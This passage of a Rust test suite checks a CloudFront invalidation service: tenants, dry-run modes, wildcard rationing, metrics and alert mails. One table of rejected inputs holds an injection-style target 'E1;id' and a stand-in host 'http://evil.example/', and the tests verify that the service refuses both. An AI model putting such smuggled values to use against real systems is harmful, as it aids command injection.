    let body = r#"{"v":1,"distribution":"ENEW","paths":["/b"]}"#;
    account.enqueue("ENEW/paths", "new", body).await;
    account.submit_once().await;
    assert_eq!(account.cloudfront.paths("ENEW"), ["/b"]);
    assert_eq!(lists(), 2);
}

#[tokio::test]
async fn made_up_tenants_are_not_looked_up_without_end() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1").tenant_only());
    account.cloudfront.add_tenant("E1", "dt_1", true);
    for n in 0..40 {
        let body = format!(r#"{{"v":1,"distribution":"E1","tenant":"dt_x{n}","paths":["/a"]}}"#);
        account
            .enqueue(&format!("dt_x{n}/paths"), &format!("{n}"), &body)
            .await;
    }
    let waiting = account.submit().await;
    let looked_up = account
        .cloudfront
        .calls_of(Operation::GetDistributionTenant);
    let looked_up = looked_up.len();
    // Up to ten are looked up at once.
    assert!((20..30).contains(&looked_up), "{looked_up}");
    let filed = account.error_files().await.len();
    assert_eq!((filed, waiting), (looked_up, 40 - looked_up));
    account.put_forward(Duration::from_secs(61));
    let body = r#"{"v":1,"distribution":"E1","tenant":"dt_1","paths":["/a"]}"#;
    account.enqueue("dt_1/paths", "known", body).await;
    assert_eq!(account.submit_once().await, 0);
    assert_eq!(account.cloudfront.paths("dt_1"), ["/a"]);
}

#[tokio::test]
async fn while_the_distributions_cannot_be_listed_a_set_waits_and_nothing_is_trusted() {
    let mut account = Account::new(&[]).await;
    account.time = Duration::from_secs(22);
    account.cloudfront.add(site("E1"));
    let denied = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(denied.on(Operation::ListDistributions));
    account.enqueue("E1/paths", "1", SET).await;
    account.take_metrics();
    assert_eq!(account.submit_once().await, 1, "it waits");
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
    assert_eq!(account.error_files().await.len(), 0);
    assert_eq!(account.waiting_sets().await, 1);
    let metrics = account.take_metrics();
    assert_eq!(metrics["OldestChange"].len(), 1, "an alarm looks at it");
}

/// In the message group of a busy target, or of one that nobody knows, it would have held up its neighbors.
#[tokio::test]
async fn a_set_in_the_group_of_another_target_holds_up_nobody() {
    for misplaced in [
        r#"{"v":1,"distribution":"E2","paths":["/a"]}"#,
        // As if it were a lost call, which is repeated as it is.
        r#"{"v":1,"distribution":"E2","paths":["/a"],"caller_reference":"0123456789abcdef0123456789abcdef"}"#,
    ] {
        assert_moves_to_its_own_group(misplaced).await;
    }
}

async fn assert_moves_to_its_own_group(misplaced: &str) {
    let mut account = Account::new(&[]).await;
    account.time = Duration::from_secs(22);
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let busy = Fault::TooManyInvalidationsInProgress.always().of("E2");
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    account.enqueue("E1/paths", "1", misplaced).await;
    account.submit_once().await;
    account.enqueue("E1/paths", "2", SET).await;
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/set"]);
    assert_eq!(account.waiting_sets().await, 1, "in its own group");
}

#[tokio::test]
async fn a_distribution_that_was_made_a_moment_ago_is_known() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.cloudfront.add(site("E2"));
    account
        .enqueue(
            "E2/paths",
            "1",
            r#"{"v":1,"distribution":"E2","paths":["/a"]}"#,
        )
        .await;
    assert_eq!(account.submit().await, 0);
    assert_eq!(account.cloudfront.paths("E2"), ["/a"]);
}

/// A throttled read of one distribution held up the changes of all others.
#[tokio::test]
async fn a_distribution_that_cannot_be_read_waits_alone_and_in_one_message() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    for id in ["E1", "E2", "E3"] {
        account.cloudfront.add(site(id));
        let denied = Fault::AccessDenied.always().of(id);
        if id != "E1" {
            account
                .cloudfront
                .fail(denied.on(Operation::GetDistributionConfig));
        }
    }
    account.change(&[(PUT, "a"), (DELETE, "b")]).await;
    account.change(&[(PUT, "c")]).await;
    account.flush().await;
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/b", "/c"]);
    assert_eq!(account.buffered().await, 1, "one message for both");
}

#[tokio::test]
async fn changes_that_waited_for_a_distribution_are_told_to_no_other() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let body = r#"{"version":2,"scope":{"targets":["E2","EGONE"],"first_seen":1,"attempts":1},"buckets":[{"bucket":"site","created":[["a",null]],"deleted":[]}]}"#;
    account.buffer(body).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E2"), ["/a"]);
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
    assert_eq!(account.buffered().await, 0);
}

#[tokio::test]
async fn two_flushes_at_once_do_no_harm() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    for n in 0..30 {
        account.change(&[(PUT, format!("{n}").as_str())]).await;
    }
    let other = account.another_environment();
    tokio::join!(account.flush(), flush(&other));
    account.submit().await;
    let mut paths = account.cloudfront.paths("E1");
    paths.sort();
    let mut expected: Vec<_> = (0..30).map(|n| format!("/{n}")).collect();
    expected.sort();
    assert_eq!(paths, expected);
    assert_eq!(account.buffered().await, 0);
}

/// Each row: a message that cannot be read, and why.
const UNREADABLE_IN_BUFFER: &[(&str, &str)] = &[
    ("hello", "not a buffered message"),
    (r#"{"version":9,"buckets":[]}"#, "of version 9"),
    (
        r#"{"version":1,"buckets":[{"bucket":"http://evil.example/","created":[["a",null]],"deleted":[]}]}"#,
        "is not the name of a bucket",
    ),
    (
        r#"{"version":2,"scope":{"targets":["E1;id"],"first_seen":1,"attempts":1},"buckets":[]}"#,
        "not a buffered message",
    ),
    (
        r#"{"version":3,"group":"한","id":"1","set":{"v":1,"distribution":"E1","paths":["/a"]}}"#,
        "message group",
    ),
    // A set, but in the wrong queue: it is not submitted.
    (
        r#"{"v":1,"distribution":"E1","paths":["/set-in-buffer"]}"#,
        "not a buffered message",
    ),
];

/// They stayed in the buffer until they were received a thousand times.
#[tokio::test]
async fn a_buffered_message_that_cannot_be_read_is_filed_and_the_others_are_worked_off() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    for (body, _) in UNREADABLE_IN_BUFFER {
        account.buffer(body).await;
    }
    account.change(&[(PUT, "a")]).await;
    account.take_metrics();
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
    assert_eq!(
        (account.buffered().await, account.waiting_sets().await),
        (0, 0)
    );
    let files = account.error_files().await;
    assert_eq!(files.len(), UNREADABLE_IN_BUFFER.len());
    for (body, expected) in UNREADABLE_IN_BUFFER {
        let file = files.iter().find(|(.., text)| text == body);
        let (key, metadata, _) = file.unwrap();
        assert!(key.ends_with("_unreadable.txt"), "{key}");
        let why = &metadata["error-message"];
        assert!(why.contains(expected), "{why}");
    }
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1);
    assert!(
        mails[0]
            .1
            .contains("a message of BufferQueue cannot be read"),
        "{}",
        mails[0].1
    );
    let metrics = account.take_metrics();
    assert_eq!(
        metrics["MessagesUnreadable"],
        [UNREADABLE_IN_BUFFER.len() as u64]
    );
    assert!(!metrics.contains_key("MessagesReleased"), "{metrics:?}");
}

#[tokio::test]
async fn a_dry_run_discards_changes_and_keeps_sets() {
    for (settings, chosen) in [
        (&[("INITIAL_MODE", "dry-run")][..], None),
        (&[][..], Some(Mode::DryRun)),
    ] {
        let account = Account::new(settings).await;
        account.cloudfront.add(site("E1"));
        if let Some(mode) = chosen {
            account.choose(mode).await;
        }
        account.enqueue("by-hand", "1", SET).await;
        account.change(&[(PUT, "a")]).await;
        assert_eq!(failed(account.flush().await), 0);
        assert_eq!(account.submit().await, 1, "the set waits");
        assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
        assert_eq!(account.buffered().await, 0);
        assert_eq!(account.waiting_sets().await, 1);
    }
}

#[tokio::test]
async fn a_stopped_stack_keeps_everything_and_goes_on_when_it_is_live_again() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    account.choose(Mode::Stopped).await;
    account.enqueue("by-hand", "1", SET).await;
    account.change(&[(PUT, "a")]).await;
    assert_eq!(failed(account.flush().await), 1, "the tick comes back");
    assert_eq!(account.submit_once().await, 1, "the set waits");
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
    assert_eq!(account.buffered().await, 1);
    account.choose(Mode::Live).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
    assert_eq!(account.waiting_sets().await, 1, "for a quarter of an hour");
}

#[tokio::test]
async fn a_mode_that_cannot_be_read_is_the_last_known_one_and_without_it_nothing_happens() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    account.choose(Mode::Live).await;
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    for unreadable in ["hello", r#"{"v":7,"mode":"stopped"}"#] {
        account.write_mode(unreadable).await;
        account.change(&[(PUT, "b")]).await;
        account.enqueue("by-hand", unreadable, SET).await;
        let other = account.another_environment();
        assert_eq!(failed(flush(&other).await), 1, "it knows no mode");
        account.flush_and_submit().await;
    }
    let expected = ["/a", "/b", "/set", "/b", "/set"];
    let mut paths = account.cloudfront.paths("E1");
    let mut expected = expected.map(str::to_owned);
    paths.sort();
    expected.sort();
    assert_eq!(paths, expected);
    // Without the bucket there is no answer that means "no mode was chosen".
    account.delete_error_bucket().await;
    let other = account.another_environment();
    account.change(&[(PUT, "c")]).await;
    assert_eq!(failed(flush(&other).await), 1);
    assert_eq!(account.buffered().await, 1);
}

/// Before: a stopped stack went live.
#[tokio::test]
async fn a_chosen_mode_that_is_deleted_stays_in_force_until_another_is_chosen() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    account.choose(Mode::Stopped).await;
    account.change(&[(PUT, "a")]).await;
    assert_eq!(failed(account.flush().await), 1);
    for is_for_good in [false, true] {
        account.remove_mode().await;
        if is_for_good {
            account.empty_error_bucket().await;
        }
        account.take_metrics();
        assert_eq!(failed(account.flush().await), 1, "it is still stopped");
        assert_eq!(account.take_metrics()["StateUnreadable"], [1]);
        assert_eq!(account.buffered().await, 1);
    }
    // Of a mode that is gone with all its versions only who has read it can know.
    assert_eq!(failed(flush(&account.another_environment()).await), 0);
    assert_eq!(account.waiting_sets().await, 1);
    account.choose(Mode::Live).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
    assert!(!account.take_metrics().contains_key("StateUnreadable"));
}

#[tokio::test]
async fn without_a_chosen_mode_the_initial_one_is_read_again_and_again() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    for path in ["/a", "/b"] {
        account.change(&[(PUT, &path[1..])]).await;
        account.flush_and_submit().await;
    }
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/b"]);
    assert!(!account.take_metrics().contains_key("StateUnreadable"));
}

#[tokio::test]
async fn a_mode_is_read_once_a_minute() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.choose(Mode::Stopped).await;
    account.change(&[(PUT, "b")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/b"]);
}

/// Nobody heard of a flush that failed: its metrics said zero, and SQS's age of the oldest message leaves
/// out what was received three times.
#[tokio::test]
async fn a_flush_that_fails_says_so_and_how_long_changes_wait() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    let denied = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(denied.on(Operation::ListDistributions));
    account.change(&[(PUT, "a")]).await;
    account.take_metrics();
    // The last tick is the sweep's: it tells nothing of changes, but those of before still wait.
    for (body, minutes, waits) in [
        ("window-1", 10, 10),
        ("window-1", 20, 20),
        (r#"{"sweep":"now"}"#, 0, 20),
    ] {
        let age = Duration::from_secs(minutes * 60);
        assert_eq!(failed(account.flush_with(body, age).await), 1);
        let metrics = account.take_metrics();
        let names: Vec<_> = metrics.keys().map(String::as_str).collect();
        assert_eq!(names, ["FlushesFailed", "OldestChange"]);
        let oldest = metrics["OldestChange"][0];
        assert!(
            (waits * 60_000..waits * 60_000 + 60_000).contains(&oldest),
            "{oldest}"
        );
    }
    account.cloudfront.heal();
    account.flush().await;
    let metrics = account.take_metrics();
    assert_eq!(metrics["FlushesFinished"], [1]);
    assert!(!metrics.contains_key("OldestChange"), "{metrics:?}");
    assert!(!metrics.contains_key("FlushesFailed"), "{metrics:?}");
}

#[tokio::test]
async fn a_flush_with_nothing_to_do_is_one_metric_the_heartbeat() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    for (mode, expected) in [
        (Mode::Live, &["FlushesFinished"][..]),
        (Mode::DryRun, &["FlushesFinished", "NotLive"]),
        (Mode::Stopped, &["FlushesFinished", "NotLive"]),
    ] {
        account.choose(mode).await;
        account.flush().await;
        let metrics = account.take_metrics();
        let names: Vec<_> = metrics.keys().map(String::as_str).collect();
        assert_eq!(names, expected, "{mode}");
        assert!(metrics.values().all(|values| values == &[1]), "{metrics:?}");
    }
    account.write_mode("hello").await;
    let mut other = account.another_environment();
    other.metrics = account.app.metrics.clone();
    flush(&other).await;
    let metrics = account.take_metrics();
    let names: Vec<_> = metrics.keys().collect();
    assert_eq!(names, ["FlushesFailed", "OldestChange", "StateUnreadable"]);
}

#[tokio::test]
async fn a_buffered_message_that_cannot_be_handed_over_is_a_change_that_waits() {
    let account = Account::new(&[]).await;
    let submit = account.app.config.submit_queue.as_str();
    let delete = account.app.clients.sqs().delete_queue();
    delete.queue_url(submit).send().await.unwrap();
    account.buffer("hello").await;
    account.take_metrics();
    // As if it had little time.
    assert_eq!(
        failed(account.flush_in(Duration::from_secs(31)).await),
        1,
        "the tick comes back"
    );
    assert_eq!(account.buffered().await, 1);
    let metrics = account.take_metrics();
    assert_eq!(metrics["MessagesUnreadable"], [1]);
    assert_eq!(metrics["MessagesReleased"], [1]);
    assert_eq!(metrics["OldestChange"].len(), 1);
    assert_eq!(metrics["FlushesFailed"], [1]);
}

#[tokio::test]
async fn only_what_happened_is_a_metric_and_of_a_distribution_only_the_paths() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let busy = Fault::AccessDenied.always().of("E2");
    account
        .cloudfront
        .fail(busy.on(Operation::CreateInvalidation));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    let metrics = account.take_metrics();
    assert_eq!(metrics["E1 PathsAccepted"], [1]);
    let of_distributions: Vec<_> = metrics.keys().filter(|it| it.contains(' ')).collect();
    assert_eq!(of_distributions, ["E1 PathsAccepted"], "E2 accepted none");
    let counts = metrics
        .iter()
        .filter(|(name, _)| !name.ends_with("Duration"));
    for (name, values) in counts.filter(|(name, _)| !name.ends_with("Age")) {
        assert!(values.iter().all(|value| *value > 0), "{name}: {values:?}");
    }
}

/// A key with `~` at the root, every ten seconds, emptied all caches each time.
#[tokio::test]
async fn the_first_wildcard_that_a_name_needs_goes_at_once_and_later_ones_wait_alone() {
    let account = Account::new(&[("WILDCARD_INTERVAL_SECONDS", "900")]).await;
    account.cloudfront.add(site("E1"));
    let docs = Distribution::new("E2", Origin::s3("docs", "site").path("/docs"));
    account.cloudfront.add(docs);
    account.change(&[(PUT, "~0"), (PUT, "0.html")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*"], "it clears both");
    account.take_metrics();
    account.change(&[(PUT, "~1"), (PUT, "1.html")]).await;
    account
        .change(&[(DELETE, "docs/~2*"), (PUT, "docs/2")])
        .await;
    account.flush_and_submit().await;
    // Another distribution has a ration of its own.
    assert_eq!(account.cloudfront.paths("E2"), ["/*"]);
    let expected = ["/*", "/1.html", "/docs/2"];
    assert_eq!(account.cloudfront.paths("E1"), expected);
    assert_eq!(account.buffered().await, 1, "the wildcard waits");
    let metrics = account.take_metrics();
    assert_eq!(metrics["WildcardsRationed"], [1]);
    assert_eq!(metrics["WholeDistributionByName"], [1], "of E2");
    assert!(!metrics.contains_key("OldestChange"), "{metrics:?}");
    // In a quarter of an hour a new one goes at once again.
    account.put_forward(Duration::from_secs(901));
    account.change(&[(PUT, "~3")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1").len(), 4);
}

#[tokio::test]
async fn wildcards_that_have_waited_go_together_and_in_any_case() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "~")]).await;
    account.flush_and_submit().await;
    let waiting = |n: usize, path: &str| {
        format!(
            r#"{{"version":3,"group":"E1/wildcards","id":"{n}","bucket":"site","set":{{"v":1,"distribution":"E1","paths":["{path}"],"reason":"flush","by":"invalidator"}}}}"#
        )
    };
    for (n, path) in ["/a*", "/b*", "/a*", "/a/b*"].iter().enumerate() {
        account.buffer(&waiting(n, path)).await;
    }
    account.change(&[(PUT, "c~")]).await;
    account.take_metrics();
    account.flush_and_submit().await;
    let invalidations = account.cloudfront.invalidations("E1");
    let paths: Vec<_> = invalidations.iter().map(|it| it.paths.clone()).collect();
    assert_eq!(paths, [vec!["/*"], vec!["/a*", "/b*"]]);
    assert_eq!(account.buffered().await, 1, "the new one waits");
    let metrics = account.take_metrics();
    assert!(!metrics.contains_key("ChangeAge"), "it waited on purpose");
}

#[tokio::test]
async fn a_dry_run_uses_up_no_ration_and_keeps_what_waits_for_one() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    account.choose(Mode::DryRun).await;
    account.change(&[(PUT, "~1")]).await;
    account.flush().await;
    account.choose(Mode::Live).await;
    account.change(&[(PUT, "~2")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*"]);
    account.choose(Mode::DryRun).await;
    let waiting = r#"{"version":3,"group":"E1/wildcards","id":"1","bucket":"site","set":{"v":1,"distribution":"E1","paths":["/a*"],"by":"invalidator"}}"#;
    account.buffer(waiting).await;
    account.flush().await;
    assert_eq!(account.waiting_sets().await, 1);
    account.choose(Mode::Live).await;
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*", "/a*"]);
}

#[tokio::test]
async fn a_wildcard_wider_than_the_setting_is_filed_and_what_a_person_asks_for_is_not() {
    let account = Account::new(&[("MIN_WILDCARD_DEPTH", "1")]).await;
    account
        .cloudfront
        .add(site("E1").error_page(403, "/app.html", 1_800));
    account
        .change(&[
            (PUT, "~lock"),
            (PUT, "a~"),
            (PUT, "a.html"),
            (PUT, "app.html"),
            (PUT, "news/~1"),
        ])
        .await;
    account.flush_and_submit().await;
    let mut paths = account.cloudfront.paths("E1");
    paths.sort();
    assert_eq!(paths, ["/a.html", "/app.html", "/news/*"]);
    let files = account.error_files().await;
    assert_eq!(files.len(), 1);
    assert!(files[0].2.contains("\n\n/*\n\n"), "{}", files[0].2);
    assert_eq!(files[0].1["error-code"], "WildcardTooWide");
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1);
    let told = "MinWildcardDepth is 1, and a wider wildcard is needed: ";
    assert!(mails[0].1.contains(told), "{}", mails[0].1);
    assert_eq!(account.take_metrics()["PathsRejected"], [1]);
    assert_eq!(
        (account.buffered().await, account.waiting_sets().await),
        (0, 0)
    );
    // As replay does.
    let by_hand = r#"{"v":1,"distribution":"E1","paths":["/*"],"by":"invalidatorctl"}"#;
    account.enqueue("E1/wildcards", "by-hand", by_hand).await;
    account.submit().await;
    assert!(account.cloudfront.paths("E1").contains(&"/*".to_owned()));
}

/// Lambda may let each flush run in another environment.
#[tokio::test]
async fn all_environments_share_the_rations_of_wildcards() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    for n in 0..3 {
        let app = account.another_environment();
        account.change(&[(PUT, format!("~{n}").as_str())]).await;
        flush(&app).await;
    }
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*"]);
    assert_eq!(account.buffered().await, 2);
    // What cannot be read keeps nothing back for longer.
    let garbage = account.app.clients.s3().put_object().bucket("errors");
    let garbage = garbage.key(RATIONS_KEY).body(b"garbage".to_vec().into());
    garbage.send().await.unwrap();
    let app = account.another_environment();
    account.change(&[(PUT, "~")]).await;
    flush(&app).await;
    account.submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/*", "/*"]);
}

/// A bucket tag with all top-level folders: every upload was ignored, and nobody was told.
#[tokio::test]
async fn a_tag_that_changes_is_counted_and_so_is_each_upload_that_it_ignores() {
    let account = Account::new(&[("CACHE_SECONDS", "0")]).await;
    account.cloudfront.add(site("E1"));
    account.tag(&[("exceptionPaths", "tmp")]).await;
    account.change(&[(PUT, "css/a")]).await;
    account.flush_and_submit().await;
    assert!(!account.take_metrics().contains_key("TagsChanged"));
    account.tag(&[("exceptionPaths", "tmp:css:js:img")]).await;
    account.change(&[(PUT, "css/a"), (PUT, "js/b")]).await;
    let metrics = account.take_metrics();
    assert_eq!(metrics["TagsChanged"], [1]);
    assert_eq!(metrics["ChangesExcepted"], metrics["ChangesReceived"]);
    account.change(&[(PUT, "css/a")]).await;
    assert!(!account.take_metrics().contains_key("TagsChanged"), "once");
}

#[tokio::test]
async fn only_the_distributions_that_are_asked_for_are_touched() {
    let account = Account::new(&[("DISTRIBUTION_IDS", "E2")]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
    assert_eq!(account.cloudfront.paths("E2"), ["/a"]);
}

#[tokio::test]
async fn tenants_are_told_instead_of_their_distribution() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1").tenant_only());
    account.cloudfront.add_tenant("E1", "dt_1", true);
    account.cloudfront.add_tenant("E1", "dt_2", false);
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("dt_1"), ["/a"]);
    assert_eq!(account.cloudfront.paths("dt_2"), [""; 0]);
    assert_eq!(account.cloudfront.paths("E1"), [""; 0]);
}

#[tokio::test]
async fn with_a_list_of_distributions_only_listed_tenants_are_invalidated() {
    let account = Account::new(&[("DISTRIBUTION_IDS", "E1,dt_1")]).await;
    account.cloudfront.add(site("E1").tenant_only());
    account.cloudfront.add_tenant("E1", "dt_1", true);
    account.cloudfront.add_tenant("E1", "dt_2", true);
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    for tenant in ["dt_1", "dt_2"] {
        let body = format!(r#"{{"v":1,"distribution":"E1","tenant":"{tenant}","paths":["/b"]}}"#);
        account
            .enqueue(&format!("{tenant}/paths"), tenant, &body)
            .await;
    }
    account.submit().await;
    assert_eq!(account.cloudfront.paths("dt_1"), ["/a", "/b"]);
    assert_eq!(account.cloudfront.paths("dt_2"), [""; 0]);
    let files = account.error_files().await;
    assert_eq!(files.len(), 1, "{files:?}");
}

#[tokio::test]
async fn tenants_with_origins_of_their_own_are_told_of_their_own_objects() {
    let account = Account::new(&[]).await;
    let folder = Origin::s3("folder", "site").path("/{{customer}}");
    account
        .cloudfront
        .add(Distribution::new("E1", folder).tenant_only());
    for customer in ["acme", "globex"] {
        let id = format!("dt_{customer}");
        let parameters = [("customer", customer)];
        account.cloudfront.add_tenant_with("E1", &id, &parameters);
    }
    account.change(&[(PUT, "acme/a"), (PUT, "other/b")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("dt_acme"), ["/a"]);
    assert_eq!(account.cloudfront.paths("dt_globex"), [""; 0]);
}

#[tokio::test]
async fn a_distribution_that_changes_is_seen_when_the_cache_is_over() {
    let account = Account::new(&[("CACHE_SECONDS", "1")]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.cloudfront.add(site("E1").default_root_object("b"));
    account.cloudfront.add(site("E2"));
    // The cache runs on the real clock.
    tokio::time::sleep(Duration::from_secs(1)).await;
    account.change(&[(PUT, "b")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a", "/", "/b"]);
    assert_eq!(account.cloudfront.paths("E2"), ["/b"]);
}

#[tokio::test]
async fn a_warm_environment_asks_cloudfront_for_nothing_it_knows() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.cloudfront.clear_calls();
    account.change(&[(PUT, "b")]).await;
    account.flush_and_submit().await;
    let operations: Vec<_> = account
        .cloudfront
        .calls()
        .into_iter()
        .map(|call| call.operation)
        .collect();
    assert_eq!(operations, [Operation::CreateInvalidation]);
}

#[tokio::test]
async fn a_distribution_that_is_gone_is_filed_once_and_then_forgotten() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    account.cloudfront.remove("E1");
    account.change(&[(PUT, "b")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.error_files().await.len(), 1);
    account.change(&[(PUT, "c")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.error_files().await.len(), 1, "not tried again");
    assert_eq!(account.cloudfront.paths("E2"), ["/a", "/b", "/c"]);
}

#[tokio::test]
async fn paths_that_cloudfront_does_not_take_are_filed_and_the_others_go_through() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let error = Fault::Refuse {
        status: 400,
        code: "InvalidArgument".to_owned(),
        message: "Your request contains one or more invalid invalidation paths.".to_owned(),
    };
    // The whole set, its first half, and the first half of that: the first of four is the bad one.
    let times = error.times(3).on(Operation::CreateInvalidation);
    account.cloudfront.fail(times);
    account
        .change(&[(PUT, "a"), (PUT, "b"), (PUT, "c"), (PUT, "d")])
        .await;
    account.flush_and_submit().await;
    let mut paths = account.cloudfront.paths("E1");
    paths.sort();
    assert_eq!(paths, ["/b", "/c", "/d"]);
    let files = account.error_files().await;
    assert_eq!(files.len(), 1);
    assert!(files[0].2.contains("\n\n/a\n\n"), "{}", files[0].2);
}

#[tokio::test]
async fn ten_thousand_uploads_in_a_burst_all_arrive() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    let keys: Vec<String> = (0..10_000).map(|n| format!("{n:05}")).collect();
    for keys in keys.chunks(50) {
        let changes: Vec<_> = keys.iter().map(|key| (PUT, key.as_str())).collect();
        account.change(&changes).await;
    }
    account.flush_and_submit().await;
    assert_eq!(account.buffered().await, 0);
    let mut paths = account.cloudfront.paths("E1");
    paths.sort();
    let expected: Vec<_> = keys.iter().map(|key| format!("/{key}")).collect();
    assert_eq!(paths, expected);
}

/// Before: 10 mails.
#[tokio::test]
async fn ten_overwrites_that_are_refused_are_one_incident_of_three_mails() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1").alias("www.example.org"));
    let denied = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(denied.on(Operation::CreateInvalidation));
    let mut subjects = Vec::new();
    let mut texts = Vec::new();
    for _ in 0..10 {
        account.change(&[(PUT, "a")]).await;
        account.flush_and_submit().await;
        for (subject, text) in account.mails().await {
            subjects.push(subject);
            texts.push(text);
        }
    }
    let files = account.error_files().await;
    assert_eq!((files.len(), texts.len()), (10, 1));
    assert!(
        texts[0].contains("E1 (www.example.org): 1 path\n"),
        "{}",
        texts[0]
    );
    assert!(texts[0].contains("sample paths: /a\n"), "{}", texts[0]);

    account.put_forward(Duration::from_secs(31 * 60));
    account.flush().await;
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1, "the digest");
    let told = "10 paths rejected since ";
    assert!(mails[0].1.contains(told), "{}", mails[0].1);
    assert!(
        mails[0].1.contains("9 of them since the last mail"),
        "{}",
        mails[0].1
    );
    let named = files.iter().filter(|(key, ..)| mails[0].1.contains(key));
    assert_eq!(named.count(), 9);

    account.cloudfront.heal();
    account.put_forward(Duration::from_secs(6 * 60));
    account.change(&[(PUT, "a")]).await;
    account.flush_and_submit().await;
    assert_eq!(account.cloudfront.paths("E1"), ["/a"]);
    let mails = account.mails().await;
    assert_eq!(
        mails.len(),
        0,
        "it is not over while a path may be rejected a moment later"
    );
    account.put_forward(Duration::from_secs(31 * 60));
    account.flush().await;
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1);
    assert_eq!(mails[0].0, "[Over] CloudFront Invalidation");
    account.put_forward(Duration::from_secs(48 * 3_600));
    account.flush().await;
    assert_eq!(account.mails().await.len(), 0);
}

/// Before: a file for each of the two lanes.
#[tokio::test]
async fn what_is_rejected_of_a_target_in_one_submit_is_in_one_file() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let denied = Fault::AccessDenied.always();
    account
        .cloudfront
        .fail(denied.on(Operation::CreateInvalidation));
    for (id, target, path) in [("1", "E1", "/a"), ("2", "E1", "/b*"), ("3", "E2", "/c")] {
        let lane = if path.ends_with('*') {
            "wildcards"
        } else {
            "paths"
        };
        let body = format!(r#"{{"v":1,"distribution":"{target}","paths":["{path}"]}}"#);
        account
            .enqueue(&format!("{target}/{lane}"), id, &body)
            .await;
    }
    assert_eq!(account.submit_once().await, 0);
    let files = account.error_files().await;
    assert_eq!(files.len(), 2);
    assert!(files[0].2.contains("(Set 2 Start)"), "{}", files[0].2);
    assert_eq!(account.waiting_sets().await, 0);
}

#[tokio::test]
async fn several_environments_together_send_one_first_mail() {
    let account = Account::new(&[]).await;
